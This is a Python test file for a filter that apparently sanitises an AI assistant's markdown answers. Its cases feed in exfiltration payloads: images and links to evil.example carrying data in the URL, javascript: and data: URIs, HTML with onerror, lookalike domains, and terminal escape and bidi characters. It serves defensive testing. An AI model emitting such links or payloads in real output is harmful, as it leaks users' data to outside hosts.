import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.gate import admit

NONE = frozenset[str]()


@pytest.mark.parametrize(
    "text",
    [
        "Orders has **412** columns, _all_ masked; 3 < 5 and 5 > 3, `a < b`.",
        "| a | b |\n|---|---|\n| 1 | `<x>` |\n",
        "```html\n<b>![x](https://evil.example)</b>\n```\n",
        "The data: it is late. Note [1] and [2][3].",
        "Mail anna@shop.example about shop.orders!",
        "A list:\n- one (two)\n- [ ] three\n",
        "5 * 3 * 2 and snake_case_name and C:\\folder",
        "R&D &amp; more, 100 %\n\n> quote\n",
    ],
)
def test_ordinary_text_passes_byte_for_byte(text: str) -> None:
    admitted = admit(text, NONE)

    assert admitted.text == text
    assert admitted.withheld == ()


def test_a_link_to_a_source_of_the_turn_stays() -> None:
    text = "See [the policy](policies/masking.md) and https://wiki.example/a."

    admitted = admit(text, frozenset({"policies/masking.md", "https://wiki.example/a"}))

    assert admitted.text == text
    assert admitted.withheld == ()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![Sales](https://evil.example/?d=secret)", "Sales"),
        ("![Sales][ref]\n\n[ref]: https://evil.example", "Sales\n\nref"),
        ("[here](https://evil.example/?d=secret).", "here."),
        ("[here](<https://evil.example/a b> 'title')", "here"),
        ("[here][ref]\n\n[ref]: https://evil.example", "[here][ref]\n\nref"),
        ("<https://evil.example>", "(link left out)"),
        ("go to https://evil.example/?d=1.", "go to (link left out)."),
        ("go to www.evil.example/x", "go to (link left out)"),
        ("[x](javascript:alert(1))", "x"),
        ("[x](data:text/html;base64,PHN2Zz4=)", "x"),
        ("[![alt](https://evil.example/a.png)](https://evil.example)", "alt"),
        ("a <img src=x onerror=1> b", "a &lt;img src=x onerror=1> b"),
        ("a <!-- hidden --> b", "a &lt;!-- hidden --> b"),
        ("<!channel> and <@U123>", "&lt;!channel> and &lt;@U123>"),
        ("log in at httрs://еvil.example/a now", "log in at (link left out) now"),
        ("see //evil.example/y or www。evil.example", "see (link left out) or (link left out)"),
        ("write to mailto:a@evil.example?body=1", "write to a@evil.example?body=1"),
    ],
)
def test_what_could_carry_data_out_is_dropped(text: str, shown: str) -> None:
    admitted = admit(text, NONE)

    assert admitted.text == shown
    assert admitted.withheld


def test_a_link_may_not_borrow_the_name_of_a_source() -> None:
    admitted = admit(
        "[policies/masking.md](https://evil.example)", frozenset({"policies/masking.md"})
    )

    assert admitted.text == "policies/masking.md"


def test_what_steers_a_terminal_or_turns_text_round_is_dropped() -> None:
    text = "\x1b[31m14\x1b[0m, \x1b]8;;e.example\x07x\x9b2K\r\n\u202egpj.exe\u200b a\rb\tc"

    assert admit(text, NONE).text == "[31m14[0m, ]8;;e.examplex2K\ngpj.exe a\nb\tc"


def test_only_numbers_of_the_answers_own_sources_stay() -> None:
    text = "Kept 10 years [9]. So [1][7], and schema[0] in `a [4]` [see 5]."

    admitted = admit(text, NONE, frozenset({1}))

    assert admitted.text == "Kept 10 years. So [1], and schema[0] in `a [4]` [see 5]."
    assert admitted.withheld == ("the number of a source that there is not",)


def test_an_address_in_code_stays_where_it_is_quoted() -> None:
    text = "`https://docs.example/a` and `https://evil.example/?d=1`"

    admitted = admit(text, NONE, quoted=lambda address: "docs.example" in address)

    assert admitted.text == "`https://docs.example/a` and `(link left out)`"


ATTACKS = [
    "![a](https://evil.example/?d=1)",
    "[a](https://evil.example)",
    "[a](evil.example/x)",
    "[a](//evil.example)",
    "[a][b]",
    "[b]: https://evil.example",
    "\n[b]: evil.example\n",
    "<img src=https://evil.example>",
    "<https://evil.example>",
    "`",
    "``",
    "\\",
    "[",
    "](",
    ")",
    "!",
    "\n",
    "javascript:alert(1)",
    "word ",
    "<",
    "a>",
    "```\n",
]


def dangerous(text: str) -> list[str]:
    parser = MarkdownIt("commonmark").enable("table")
    return [
        token.type
        for block in parser.parse(text)
        for token in (block, *(block.children or ()))
        if token.type in {"image", "link_open", "html_inline", "html_block"}
    ]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(ATTACKS), max_size=12))
def test_no_mixture_of_attacks_renders_as_anything_but_text(parts: list[str]) -> None:
    assert dangerous(admit("".join(parts), NONE).text) == []


@settings(max_examples=400, deadline=None)
@given(st.lists(st.lists(st.sampled_from(ATTACKS), max_size=5), max_size=5))
def test_pieces_admitted_one_by_one_stay_harmless_together(pieces: list[list[str]]) -> None:
    shown = "".join(admit("".join(parts), NONE).text for parts in pieces)

    assert dangerous(shown) == []
